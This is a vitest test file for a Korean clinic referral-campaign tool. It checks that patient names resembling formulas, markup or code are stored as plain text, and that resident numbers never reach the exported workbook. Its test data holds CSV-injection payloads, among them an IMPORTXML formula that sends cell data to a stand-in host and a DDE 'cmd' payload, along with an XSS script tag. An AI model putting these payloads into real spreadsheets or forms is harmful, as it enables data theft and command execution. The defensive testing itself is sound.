import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { build } from '../../../build/build';
import type { Snapshot } from '../../../host/snapshot';
import { writeXlsx } from '../../../host/xlsx/write-xlsx';
import { openClinicHost } from '../../../local/campaign/clinic-host';
import { readExport } from '../../../local/campaign/export-file';
import type { CampaignJson } from '../../../local/campaign/report-file';
import { runActions } from '../../../local/campaign/run-actions';
import { readDeskName } from '../../../src/core/person-name';
import { makeFolder } from './run';

const folder = makeFolder();
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Names that a spreadsheet, a browser or JavaScript might take for something else. */
const NAMES = [
  '=IMPORTXML("http://a.example/"&A1,"//a")',
  "+cmd|' /C calc'!A0",
  '@SUM(A1)',
  '-A2+3',
  "'quoted",
  "''twice",
  '<script>alert(1)</script>',
  'toString',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'TRUE',
  'null',
  '김영희😀',
];
/** Written in other ways than they are kept. */
const SPELLINGS: readonly (readonly [written: string, kept: string])[] = [
  ['김\u200b철\ufeff수', '김철수'],
  ['박영수'.normalize('NFD'), '박영수'],
  ['  이 순 자 ', '이순자'],
  ['ＫＩＭ　ＪＡＮＥ', 'KIM JANE'],
];
const WRITTEN = [...NAMES, ...SPELLINGS.map(([written]) => written)];
const KEPT = [...NAMES, ...SPELLINGS.map(([, kept]) => kept)];

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;

/** Everybody on the list was there before and brings two new patients, who carry the same text in their memos. */
const EXPORT = [
  ['내원일', '차트번호', '이름', '휴대폰', '신환/구환', '소개자', '메모', '담당의', '주민등록번호'],
  ...WRITTEN.flatMap((name, i) => {
    const phone = (k: number) => `010-5${k}00-${1000 + i}`;
    const friend = (k: number) => [
      `2026-0${k + 2}-03`,
      `${2000 + 10 * i + k}`,
      `소개${'가나다라마바사아자차카타파하거너더러'.charAt(i)}${'일이'.charAt(k)}`,
      phone(k + 1),
      '신환',
      `${100 + i}`,
      `${name} 메모`,
      name,
      '800101-2345678',
    ];
    return [['2025-01-05', `${100 + i}`, name, phone(0), '구환', '', name, name, ''], friend(0), friend(1)];
  }),
]
  .map((row) => row.map(quoted).join(','))
  .join('\r\n');

interface Done {
  readonly report: CampaignJson;
  readonly snapshot: Snapshot;
}

let swallowed: Done;
let stored: Done;
beforeAll(async () => {
  const path = join(folder, 'hostile.csv');
  writeFileSync(path, EXPORT);
  const { files } = await build();
  const { tables } = readExport(path, 'visits', 'ko');
  const run = (apostropheInTextCell: 'swallowed' | 'stored', snapshot?: Snapshot): Done => {
    const clinic = openClinicHost({
      script: files.get('main.js') ?? '',
      snapshot,
      now: new Date('2026-12-01T09:00:00+09:00'),
      language: 'ko',
      apostropheInTextCell,
    });
    const settings = { clinicName: '=1+1치과', optOutNumber: '080-123-4567' };
    const input = {
      visits: tables,
      staff: undefined,
      asOf: '2026-12-01',
      language: 'ko',
      settings,
      everyWording: true,
    } as const;
    const { report } = runActions(clinic, input, () => undefined);
    return { report, snapshot: clinic.host.snapshot() };
  };
  swallowed = run('swallowed');
  stored = run('stored');
});

/** The texts under a header of a sheet. */
function column({ snapshot }: Done, sheetName: string, header: string): string[] {
  const [head = [], ...rows] = snapshot.sheets.find(({ name }) => name === sheetName)?.cells ?? [];
  const at = head.indexOf(header);
  if (at < 0) throw new Error(`${sheetName} has no column ${header}`);
  return rows.map((row) => String(row[at] ?? ''));
}

describe('names and memos that look like formulas, markup or code', () => {
  it('are accepted as people: every one is a patient of that name', () => {
    expect(swallowed.report.intake.rejected).toEqual([]);
    expect(column(swallowed, '환자', '환자명')).toEqual(expect.arrayContaining(KEPT));
  });

  it('are counted like any other referrer: two each', () => {
    const vips = swallowed.report.vip.map(({ patient, total }) => `${patient.name} ${total}`);
    expect(vips.sort()).toEqual(KEPT.map((name) => `${name} 2`).sort());
  });

  it('stand in every sheet to the letter', () => {
    expect([...column(swallowed, 'VIP 명단', '환자명')].sort()).toEqual([...KEPT].sort());
    expect(column(swallowed, '소개 내역', '소개자')).toEqual(expect.arrayContaining(KEPT));
    expect(column(swallowed, '내원', '메모 원문')).toEqual(
      expect.arrayContaining(NAMES.map((name) => `${name} 메모`)),
    );
    expect(column(swallowed, '내원', '담당의')).toEqual(expect.arrayContaining(NAMES));
  });

  it('are greeted by their name in drafts', () => {
    const cards = swallowed.report.drafts.filter(({ channel }) => channel === 'card');
    for (const name of KEPT)
      expect(
        cards.some(({ text }) => text.includes(readDeskName(name).base)),
        name,
      ).toBe(true);
  });

  it('read the same whichever way Google treats a leading apostrophe', () => {
    const { cost: _1, ...one } = swallowed.report;
    const { cost: _2, ...other } = stored.report;
    expect(other).toEqual(one);
    for (const [sheet, header] of [
      ['환자', '환자명'],
      ['내원', '메모 원문'],
      ['VIP 명단', '환자명'],
      ['문자·카드', '내용'],
    ] as const) {
      expect(column(stored, sheet, header)).toEqual(column(swallowed, sheet, header));
    }
  });

  it('become no formula in any cell, of the workbook or of the Excel file', async () => {
    for (const { snapshot } of [swallowed, stored]) {
      const formulas = snapshot.sheets.flatMap(({ cells }) =>
        cells.flat().filter((cell) => typeof cell === 'object' && 'formula' in cell),
      );
      expect(formulas).toEqual([]);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(Buffer.from(writeXlsx(snapshot)) as unknown as ExcelJS.Buffer);
      const found: string[] = [];
      book.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (cell.type === ExcelJS.ValueType.Formula || cell.type === ExcelJS.ValueType.Hyperlink)
              found.push(`${sheet.name} ${cell.address}`);
          }),
        ),
      );
      expect(found).toEqual([]);
      const names = book.getWorksheet('VIP 명단');
      const texts: unknown[] = [];
      names?.eachRow((row) => row.eachCell((cell) => texts.push(cell.value)));
      expect(texts).toEqual(expect.arrayContaining(KEPT));
    }
  });

  it('never bring a resident number into the workbook', () => {
    expect(JSON.stringify(swallowed.snapshot)).not.toContain('2345678');
  });
});
